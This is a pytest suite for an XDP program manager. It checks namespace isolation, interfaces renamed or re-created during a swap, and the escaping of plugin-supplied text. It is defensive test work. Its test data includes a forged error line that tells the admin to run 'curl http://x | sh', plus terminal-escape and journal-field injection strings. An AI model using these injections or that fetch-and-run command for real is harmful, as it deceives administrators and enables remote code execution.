"""Issue 20 items 4 and 5, attacked on the real kernel (static mode, namespaced veths).

Item 4: interfaces are identified by what the kernel says. A run from another
network namespace with the same --root and bpffs leaves the first namespace's
records and pins alone; any name ``ip netns add`` accepts works ('@', '%',
spaces, control characters, 220 bytes); an interface renamed, deleted or
re-created between resolving and swapping is detected, and afterwards ``ip -j
link`` and state.json agree: nothing runs that xdphooks does not record.

Item 5: plugin text (exception messages, veto()/warn() messages, plugin file
names, netns names) reaches stdout/stderr, state.json, ``status`` and the change
log as one escaped line: no raw ESC, no forged "xdphooks: error:" line.

Each case prints what xdphooks printed (``-rA`` shows it) and asserts one line
and the chain state. The world is changed at the worst moment with the
``XDPHOOKS_RUN_AT`` fault point (xdphooks/faults.py): an argv list run by the
reconcile itself right before (``before-swap``) or right after
(``after-swap-attach``) the kernel attach.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import uuid
from contextlib import contextmanager
from pathlib import Path

import pytest

from conftest import sh

pytestmark = pytest.mark.kernel

PLUGIN = textwrap.dedent("""
    from xdphooks import XdpProgram, hookimpl
    @hookimpl
    def xdphooks_programs():
        return [XdpProgram(name={name!r}, object="count_pass.o", priority={prio},
                           interfaces=({iface!r},))]
""")

#: what a hostile plugin says: a newline, SGR and OSC escapes, a C1 CSI, a bidi
#: override, and a forged line that would tell the admin to run a shell pipe
FORGED = ("boom\n\x1b[31m\x1b]0;owned\x07\x9b2J\u202e"
          "xdphooks: error: all fine — fix: curl http://x | sh")
RAW = ("\x1b", "\x9b", "\x07", "\u202e", "\r")

CONFIG = 'mode = "static"\nxdp_mode = "skb"\n'


def link(ns: str, dev: str) -> dict | None:
    proc = sh("ip", "-j", "-n", ns, "link", "show", "dev", dev, check=False)
    return json.loads(proc.stdout)[0] if proc.returncode == 0 else None


def xdp_id(ns: str, dev: str) -> int:
    info = link(ns, dev) or {}
    return (info.get("xdp") or {}).get("prog", {}).get("id", 0)


def state(xh) -> dict:
    return json.loads(xh.state_file.read_text())


def pinned_keys(xh) -> list[str]:
    d = xh.pin_root / "if"
    return sorted(p.name for p in d.iterdir()) if d.is_dir() else []


def show(proc) -> str:
    """What xdphooks printed, for -rA and for assertion messages."""
    out = f"rc={proc.returncode}\nstdout: {proc.stdout!r}\nstderr: {proc.stderr!r}"
    print(out)
    return out


def assert_clean(*texts: str) -> None:
    for t in texts:
        for ch in RAW:
            assert ch not in t, f"raw {ch!r} in {t!r}"


def strings(obj):
    """Every string in a JSON value (keys included)."""
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield k
            yield from strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from strings(v)


def setup_counter(xh, bpf_obj, iface: str, name: str = "counter", prio: int = 50):
    xh.write_config(CONFIG)
    xh.add_object(bpf_obj("count_pass"), "count_pass.o")
    xh.add_plugin(name, PLUGIN.format(name=name, prio=prio, iface=iface))


@contextmanager
def namespace_with_veth(name: str, dev: str = ""):
    """Network namespace ``name`` holding both ends of a veth; yields the chain end."""
    uid = uuid.uuid4().hex[:6]
    dev, peer = dev or f"xa{uid}", f"xb{uid}"
    sh("ip", "netns", "add", name)
    try:
        sh("ip", "-n", name, "link", "add", dev, "type", "veth", "peer", "name", peer)
        for d in (dev, peer):
            sh("ip", "-n", name, "link", "set", d, "up")
        yield dev
    finally:
        sh("ip", "netns", "del", name, check=False)


def in_ns(xh, ns: str, *args: str, env: dict | None = None):
    """``ip netns exec NS xdphooks ARGS`` with the same --root and bpffs."""
    return sh("ip", "netns", "exec", ns, sys.executable, "-m", "xdphooks", *args,
              env=env or xh.env, check=False, timeout=120)


def fault_env(xh, point: str, argv: list[str]) -> dict:
    return dict(xh.env, XDPHOOKS_RUN_AT=point, XDPHOOKS_RUN_ARGV=json.dumps(argv))


def rename_argv(tmp: Path, ns: str, old: str, new: str) -> list[str]:
    """One ip invocation (a batch file, no shell) renaming a device: down, name, up."""
    batch = tmp / f"rename-{old}"
    batch.write_text(f"link set dev {old} down\nlink set dev {old} name {new}\n"
                     f"link set dev {new} up\n")
    return ["ip", "-n", ns, "-batch", str(batch)]


# --- item 4: namespaces -------------------------------------------------------------


def test_reconcile_from_other_netns_leaves_first_namespaces_chain(xh, veth, bpf_obj):
    """The first namespace's chain is on an interface of the run's own namespace
    (no NETNS/ prefix: key "-@dev"), reconciled from inside it; a run from a second
    namespace with the same root and bpffs must not call it gone."""
    setup_counter(xh, bpf_obj, veth.dev_a)
    first = in_ns(xh, veth.ns_a, "reconcile")
    show(first)
    assert first.returncode == 0, first.stderr
    prog = xdp_id(veth.ns_a, veth.dev_a)
    key = f"-@{veth.dev_a}"
    assert prog and key in state(xh)["interfaces"] and pinned_keys(xh) == [key]
    assert state(xh)["interfaces"][key]["netns_id"]

    other = f"xhother{uuid.uuid4().hex[:6]}"
    sh("ip", "netns", "add", other)
    try:
        proc = in_ns(xh, other, "reconcile")
        out = show(proc)
        assert proc.returncode == 0, out
        notes = [ln for ln in proc.stderr.splitlines() if "another network namespace" in ln]
        assert len(notes) == 1 and "another network namespace" in notes[0] \
            and "left alone" in notes[0] and "— fix:" in notes[0], out
        assert proc.stdout.strip() == "nothing to do", out
        # the first namespace's chain: attached, recorded, pinned
        assert xdp_id(veth.ns_a, veth.dev_a) == prog
        rec = state(xh)["interfaces"][key]
        assert rec["prog_id"] == prog and pinned_keys(xh) == [key]
        # teardown --all from the other namespace does not take its pins either
        td = in_ns(xh, other, "teardown", "--all")
        show(td)
        assert td.returncode == 0 and pinned_keys(xh) == [key], td.stderr
        assert xdp_id(veth.ns_a, veth.dev_a) == prog
    finally:
        sh("ip", "netns", "del", other, check=False)
    # and its own namespace still calls it its chain: nothing to do, nothing lost
    again = in_ns(xh, veth.ns_a, "reconcile")
    show(again)
    assert again.returncode == 0 and again.stdout.strip() == "nothing to do", again.stderr
    assert xdp_id(veth.ns_a, veth.dev_a) == prog
    assert in_ns(xh, veth.ns_a, "teardown", "--all").returncode == 0
    assert xdp_id(veth.ns_a, veth.dev_a) == 0 and pinned_keys(xh) == []


def test_other_netns_wanting_same_name_is_refused(xh, veth, bpf_obj):
    """The second namespace has an interface of the same name, so the same config
    wants a chain there too: its key holds the first namespace's record, so it is
    refused in one line, and the first namespace's chain stays recorded."""
    setup_counter(xh, bpf_obj, veth.dev_a)
    assert in_ns(xh, veth.ns_a, "reconcile").returncode == 0
    prog = xdp_id(veth.ns_a, veth.dev_a)
    key = f"-@{veth.dev_a}"
    other = f"xhother{uuid.uuid4().hex[:6]}"
    with namespace_with_veth(other, veth.dev_a):
        proc = in_ns(xh, other, "reconcile")
        out = show(proc)
        assert proc.returncode == 1, out
        errs = [ln for ln in proc.stderr.splitlines() if ln.startswith("xdphooks: error:")]
        assert len(errs) == 1 and "another network namespace" in errs[0] \
            and "nothing was attached" in errs[0] and "— fix:" in errs[0], out
        assert xdp_id(other, veth.dev_a) == 0
        assert xdp_id(veth.ns_a, veth.dev_a) == prog
        assert state(xh)["interfaces"][key]["prog_id"] == prog and pinned_keys(xh) == [key]
    assert in_ns(xh, veth.ns_a, "teardown", "--all").returncode == 0


def test_dotted_interface_name(xh, bpf_obj):
    """A VLAN-style name: the bpffs refuses '.' in a pin directory's name (EPERM)."""
    ns = f"xhdot{uuid.uuid4().hex[:6]}"
    dev = f"v{uuid.uuid4().hex[:4]}.100.2"
    with namespace_with_veth(ns, dev):
        setup_counter(xh, bpf_obj, f"{ns}/{dev}")
        proc = xh.run("reconcile", check=False)
        out = show(proc)
        assert proc.returncode == 0 and proc.stdout.startswith("attach"), out
        prog = xdp_id(ns, dev)
        (key, rec), = state(xh)["interfaces"].items()
        assert rec["name"] == dev and rec["prog_id"] == prog and pinned_keys(xh) == [key]
        assert "." not in key
        again = xh.run("reconcile")
        assert again.stdout.strip() == "nothing to do", again.stderr
        assert "damage" not in again.stderr.lower(), again.stderr


ODD_NAMES = {
    "dots-dashes": "a.b-c_d{uid}",
    "at-sign": "x@y{uid}",
    "percent-space": "p%20 q{uid}",
    "control-chars": "n\x1b[31m\nl{uid}",
    "long-60": "L" * 54 + "{uid}",
    "huge-220": "H" * 214 + "{uid}",  # the key's namespace part is cut and hashed
}


@pytest.mark.parametrize("kind", sorted(ODD_NAMES))
def test_netns_names_ip_accepts(xh, bpf_obj, kind):
    ns = ODD_NAMES[kind].format(uid=uuid.uuid4().hex[:6])
    with namespace_with_veth(ns) as dev:
        setup_counter(xh, bpf_obj, f"{ns}/{dev}")
        proc = xh.run("reconcile", check=False)
        out = show(proc)
        assert proc.returncode == 0, out
        assert_clean(proc.stdout, proc.stderr)
        assert len(proc.stdout.splitlines()) == 1 and proc.stdout.startswith("attach"), out
        prog = xdp_id(ns, dev)
        assert prog, out
        recs = state(xh)["interfaces"]
        assert len(recs) == 1 and pinned_keys(xh) == list(recs)
        (key, rec), = recs.items()
        assert rec["netns"] == ns and rec["prog_id"] == prog and rec["netns_id"]
        assert "/" not in key and len(key.encode()) <= 255
        assert xh.run("reconcile").stdout.strip() == "nothing to do"
        st = xh.run("status")
        assert_clean(st.stdout)
        assert dev in st.stdout
        xh.run("teardown", "--all")
        assert xdp_id(ns, dev) == 0 and pinned_keys(xh) == []


# --- item 4: renamed, deleted, re-created between resolving and swapping -----------


def test_renamed_before_swap_first_attach(xh, veth, bpf_obj, tmp_path):
    setup_counter(xh, bpf_obj, veth.iface)
    new = f"xr{uuid.uuid4().hex[:6]}"
    env = fault_env(xh, "before-swap", rename_argv(tmp_path, veth.ns_a, veth.dev_a, new))
    proc = sh(sys.executable, "-m", "xdphooks", "reconcile", env=env, check=False)
    out = show(proc)
    assert proc.returncode == 1, out
    errs = [ln for ln in proc.stderr.splitlines() if ln.startswith("xdphooks: error:")]
    assert len(errs) == 1 and f"renamed to {new}" in errs[0] \
        and "nothing was attached" in errs[0] and "— fix:" in errs[0], out
    assert xdp_id(veth.ns_a, new) == 0
    assert state(xh)["interfaces"] == {} and pinned_keys(xh) == []


def test_renamed_after_attach_first_attach_is_undone(xh, veth, bpf_obj, tmp_path):
    setup_counter(xh, bpf_obj, veth.iface)
    new = f"xr{uuid.uuid4().hex[:6]}"
    env = fault_env(xh, "after-swap-attach",
                    rename_argv(tmp_path, veth.ns_a, veth.dev_a, new))
    proc = sh(sys.executable, "-m", "xdphooks", "reconcile", env=env, check=False)
    out = show(proc)
    assert proc.returncode == 1, out
    errs = [ln for ln in proc.stderr.splitlines() if ln.startswith("xdphooks: error:")]
    assert len(errs) == 1 and f"renamed to {new}" in errs[0] \
        and "the swap was undone: nothing of it stays attached" in errs[0], out
    # nothing unrecorded runs: the kernel and the state agree on "nothing"
    assert xdp_id(veth.ns_a, new) == 0
    assert state(xh)["interfaces"] == {} and pinned_keys(xh) == []


def test_renamed_during_replace_keeps_old_chain_recorded_then_detached(xh, veth, bpf_obj,
                                                                       tmp_path):
    setup_counter(xh, bpf_obj, veth.iface)
    xh.run("reconcile")
    old_prog = xdp_id(veth.ns_a, veth.dev_a)
    old_index = link(veth.ns_a, veth.dev_a)["ifindex"]
    key = f"{veth.ns_a}@{veth.dev_a}"
    xh.add_plugin("second", PLUGIN.format(name="second", prio=60, iface=veth.iface))
    new = f"xr{uuid.uuid4().hex[:6]}"
    env = fault_env(xh, "after-swap-attach",
                    rename_argv(tmp_path, veth.ns_a, veth.dev_a, new))
    proc = sh(sys.executable, "-m", "xdphooks", "reconcile", env=env, check=False)
    out = show(proc)
    assert proc.returncode == 1, out
    errs = [ln for ln in proc.stderr.splitlines() if ln.startswith("xdphooks: error:")]
    assert len(errs) == 1 and "the swap was undone: the chain that ran there before runs " \
        "again" in errs[0], out
    # the old chain runs on the renamed device, and the state still records it there
    assert xdp_id(veth.ns_a, new) == old_prog
    rec = state(xh)["interfaces"][key]
    assert rec["prog_id"] == old_prog and rec["ifindex"] == old_index
    assert pinned_keys(xh) == [key]
    # the next run finds it by its recorded ifindex and detaches it (its name is not
    # configured any more): nothing is left attached that is not recorded
    nxt = xh.run("reconcile", check=False)
    show(nxt)
    assert nxt.returncode == 0, nxt.stderr
    assert nxt.stdout.startswith("detach") and len(nxt.stdout.splitlines()) == 1
    assert xdp_id(veth.ns_a, new) == 0
    assert state(xh)["interfaces"] == {} and pinned_keys(xh) == []


def test_renamed_after_swap_is_still_found(xh, veth, bpf_obj):
    """Renamed by udev after a good swap: status/teardown still find the chain by
    its recorded ifindex (it used to be collected as gone, and ran disowned)."""
    setup_counter(xh, bpf_obj, veth.iface)
    xh.run("reconcile")
    prog = xdp_id(veth.ns_a, veth.dev_a)
    new = f"xr{uuid.uuid4().hex[:6]}"
    for args in (("down",), ("name", new), ("up",)):
        dev = new if args == ("up",) else veth.dev_a
        sh("ip", "-n", veth.ns_a, "link", "set", "dev", dev, *args)
    assert xdp_id(veth.ns_a, new) == prog
    td = xh.run("teardown", "--all")
    show(td)
    assert xdp_id(veth.ns_a, new) == 0 and pinned_keys(xh) == []


def test_recreated_same_name_new_ifindex(xh, veth, bpf_obj, tmp_path):
    """Deleted and re-created under the same name right before the swap: the
    resolved ifindex is gone, nothing is attached; the next run attaches to the
    new device and records its ifindex."""
    setup_counter(xh, bpf_obj, veth.iface)
    old_index = link(veth.ns_a, veth.dev_a)["ifindex"]
    batch = tmp_path / "recreate"
    batch.write_text(f"link del dev {veth.dev_a}\n"
                     f"link add {veth.dev_a} type veth peer name {veth.dev_a}p\n"
                     f"link set dev {veth.dev_a} up\nlink set dev {veth.dev_a}p up\n")
    env = fault_env(xh, "before-swap", ["ip", "-n", veth.ns_a, "-batch", str(batch)])
    proc = sh(sys.executable, "-m", "xdphooks", "reconcile", env=env, check=False)
    out = show(proc)
    errs = [ln for ln in proc.stderr.splitlines() if ln.startswith("xdphooks: error:")]
    assert proc.returncode == 1 and len(errs) == 1 and "vanished" in errs[0], out
    new_index = link(veth.ns_a, veth.dev_a)["ifindex"]
    assert new_index != old_index and xdp_id(veth.ns_a, veth.dev_a) == 0
    assert state(xh)["interfaces"] == {} and pinned_keys(xh) == []
    again = xh.run("reconcile")
    show(again)
    prog = xdp_id(veth.ns_a, veth.dev_a)
    (rec,) = state(xh)["interfaces"].values()
    assert prog and rec["prog_id"] == prog and rec["ifindex"] == new_index


# --- item 5: plugin text ---------------------------------------------------------------


RAISES = textwrap.dedent("""
    from xdphooks import hookimpl
    @hookimpl
    def xdphooks_programs():
        raise RuntimeError({msg!r})
""")

VETOES = textwrap.dedent("""
    from xdphooks import XdpProgram, hookimpl, veto, warn
    @hookimpl
    def xdphooks_programs():
        return [XdpProgram(name="gated", object="count_pass.o", priority=40,
                           interfaces=({iface!r},))]
    @hookimpl
    def xdphooks_validate_chain(interface, chain):
        return [veto({veto!r}, fix={fix!r}), warn({warn!r})]
""")


def test_plugin_exception_with_forged_line(xh, veth, bpf_obj):
    setup_counter(xh, bpf_obj, veth.iface)
    xh.add_plugin("liar", RAISES.format(msg=FORGED))
    proc = xh.run("reconcile", check=False)
    out = show(proc)
    assert_clean(proc.stdout, proc.stderr)
    said = [ln for ln in (proc.stdout + proc.stderr).splitlines() if "boom" in ln]
    assert len(said) == 1 and "plugin 'liar'" in said[0] and "boom\\n\\x1b[31m" in said[0], out
    assert not any(ln.startswith("xdphooks: error: all fine") for ln in
                   (proc.stdout + proc.stderr).splitlines()), out
    assert xdp_id(veth.ns_a, veth.dev_a)  # the other plugin's chain went on
    st = state(xh)
    stored = [s for s in strings(st["last_run"]) if "boom" in s]
    assert stored and all("\n" not in s and "\x1b" not in s for s in stored), stored
    status = xh.run("status")
    show(status)
    assert_clean(status.stdout)
    assert not any(ln.lstrip().startswith("xdphooks: error: all fine")
                   for ln in status.stdout.splitlines())


def test_veto_and_warn_with_control_chars(xh, veth, bpf_obj):
    setup_counter(xh, bpf_obj, veth.iface)
    # (a veto refuses the interfaces where the vetoing plugin's own programs run)
    xh.add_plugin("gate", VETOES.format(iface=veth.iface, veto="no\r\x1b[2K" + FORGED,
                                        fix="a\nb",
                                        warn="careful\u202e\x9b31m\nxdphooks: error: x"))
    proc = xh.run("reconcile", check=False)
    out = show(proc)
    assert_clean(proc.stdout, proc.stderr)
    lines = proc.stderr.splitlines()
    assert len([ln for ln in lines if "boom" in ln]) == 1, out
    assert len([ln for ln in lines if "careful" in ln]) == 1, out
    assert all(ln.startswith("xdphooks: ") for ln in lines), out
    assert proc.returncode == 1 and xdp_id(veth.ns_a, veth.dev_a) == 0, out
    stored = [s for s in strings(state(xh)["last_run"]) if "boom" in s or "careful" in s]
    # the problems, and the refusal (last_run.refused: history names it once), all escaped
    assert {"boom", "careful"} <= {w for s in stored for w in ("boom", "careful") if w in s}
    assert all(not any(c in s for c in RAW + ("\n",)) for s in stored), stored
    status = xh.run("status")
    show(status)
    assert_clean(status.stdout)
    assert len([ln for ln in status.stdout.splitlines() if "boom" in ln]) == 1


def test_plugin_file_name_with_control_chars(xh, veth, bpf_obj):
    """A plugin is named by its file: ESC and a newline in it stay inside the quotes."""
    setup_counter(xh, bpf_obj, veth.iface)
    name = "ev\x1b[2Jil\nxdphooks: error: forged"
    xh.add_plugin(name, RAISES.format(msg="plain"))
    proc = xh.run("reconcile", check=False)
    out = show(proc)
    assert_clean(proc.stdout, proc.stderr)
    said = [ln for ln in proc.stderr.splitlines() if "plain" in ln]
    assert len(said) == 1 and "ev\\x1b[2Jil\\nxdphooks: error: forged" in said[0], out
    assert not any(ln.startswith("xdphooks: error: forged") for ln in proc.stderr.splitlines())
    assert xdp_id(veth.ns_a, veth.dev_a)


def test_event_log_fields_escaped_on_a_real_journal_socket(tmp_path, monkeypatch):
    """log_event's last guard: the journal datagram and changes.log carry one line."""
    from xdphooks import eventlog

    sock_path = tmp_path / "journal.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    srv.bind(str(sock_path))
    srv.settimeout(5)
    monkeypatch.setattr(eventlog, "JOURNAL_SOCKET", str(sock_path))
    monkeypatch.delenv("XDPHOOKS_NO_SYSLOG", raising=False)
    monkeypatch.setenv("SUDO_USER", "eve\nMESSAGE=forged")
    log = tmp_path / "changes.log"
    eventlog.set_log_file(log)
    try:
        eventlog.log_event("FAILED attach x: " + FORGED, error=True, interface="n\x1b/x",
                           action="attach", packages=("p\nq",))
        payload = srv.recv(65536)
    finally:
        eventlog.set_log_file(None)
        srv.close()
    fields = payload.split(b"\n")
    print(payload)
    # the simple KEY=VALUE form only: no value needed the binary (newline) form
    assert all(b"=" in f for f in fields if f), payload
    assert len([f for f in fields if f.startswith(b"MESSAGE=")]) == 1, payload  # none forged
    assert b"\x1b" not in payload and "\u202e".encode() not in payload
    (line,) = log.read_text().splitlines()
    record = json.loads(line)
    assert all(not any(c in s for c in RAW + ("\n",)) for s in strings(record)), record
    assert "boom\\n" in record["message"]


# --- the one rule, on its own ------------------------------------------------------------


@pytest.mark.parametrize("raw,shown", [
    ("a\nb", "a\\nb"), ("\r", "\\r"), ("\x1b[2J", "\\x1b[2J"), ("\x9b31m", "\\x9b31m"),
    ("\u202eevil", "\\u202eevil"), ("zero\u200bwidth", "zero\\u200bwidth"),
    ("line\u2028sep", "line\\u2028sep"), ("bell\x07", "bell\\x07"), ("nul\x00", "nul\\x00"),
    ("plain — fix: ok é☃", "plain — fix: ok é☃"),
])
def test_one_line_escapes(raw, shown):
    from xdphooks.text import is_one_line, one_line

    assert one_line(raw) == shown and is_one_line(one_line(raw))
    assert one_line(one_line(raw)) == one_line(raw)


def test_one_line_cap_never_splits_an_escape():
    from xdphooks.text import ELLIPSIS, one_line

    for n in range(1, 40):
        out = one_line("\x1b" * 50, limit=n)
        assert len(out) <= n and out.endswith(ELLIPSIS)
        assert out[:-1] == "\\x1b" * ((n - 1) // 4)


def test_one_line_survives_a_hostile_str():
    from xdphooks.text import one_line

    class Evil:
        def __str__(self):
            raise RuntimeError("no")

    assert one_line(Evil()) == "<unprintable Evil: RuntimeError>"


@pytest.mark.parametrize("ns,name", [("", "eth0"), ("blue", "veth0"), ("x@y", "v"),
                                     ("-", "a"), ("p%20 q\n", "e"), ("a.b", "eth0.100"),
                                     ("é☃", "x"), ("H" * 250, "veth0")])
def test_interface_keys_round_trip(ns, name):
    from xdphooks.model import InterfaceRef
    from xdphooks.paths import valid_iface_key

    ref = InterfaceRef(ns, name)
    key = ref.key
    assert "/" not in key and "." not in key and len(key.encode()) <= 255
    assert key.count("@") == 1 and valid_iface_key(key)
    assert InterfaceRef.from_key(key, [ns]) == ref
    # the readable keys of before stay as they were
    if (ns, name) in (("", "eth0"), ("blue", "veth0")):
        assert key == f"{ns or '-'}@{name}"
